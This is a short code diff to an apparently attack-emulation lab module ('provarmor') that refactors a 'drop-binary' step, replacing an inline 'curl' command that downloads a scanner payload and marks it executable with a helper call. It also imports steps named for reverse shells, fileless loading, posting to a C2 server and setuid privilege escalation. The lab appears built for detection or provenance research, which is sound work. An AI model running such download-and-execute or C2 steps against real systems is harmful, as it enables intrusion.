@@ -14,7 +14,13 @@ from provarmor.lab.context import LabContext
 from provarmor.lab.payloads import memfd_loader, port_scanner_c, reverse_shell_c
 from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
 from provarmor.lab.scenarios.implants import SCAN_PORTS, drop_dir, fileless_start, scan_targets
-from provarmor.lab.scenarios.steps import exploit_step, post_to_c2, setuid_copy, web_exploit
+from provarmor.lab.scenarios.steps import (
+    download,
+    exploit_step,
+    post_to_c2,
+    setuid_copy,
+    web_exploit,
+)
 
 STEPS = (
     exploit_step(),
@@ -91,8 +97,8 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="drop-binary",
                 channel=Channel.SHELL,
-                command=f"mkdir -p {folder} && curl -s -o {binary} "
-                f"{ctx.payload_url(scanner.path)} && chmod 755 {binary} && ls -la {folder}",
+                command=f"{download(ctx, scanner, binary)} && chmod 755 {binary} "
+                f"&& ls -la {folder}",
             ),
             Action(
                 step="privilege-escalation",
